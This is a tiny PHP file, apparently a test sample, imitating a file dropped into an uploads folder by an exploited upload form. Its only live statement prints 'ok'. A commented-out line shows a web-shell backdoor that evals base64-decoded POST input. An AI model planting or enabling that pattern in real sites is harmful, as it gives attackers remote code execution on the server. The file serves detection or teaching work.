<?php
// A file dropped into uploads the way an exploited upload form leaves one. Harmless here:
// the call below is a comment, but it reads like the real thing.
// if (isset($_POST['c'])) { eval(base64_decode($_POST['c'])); }
echo 'ok';
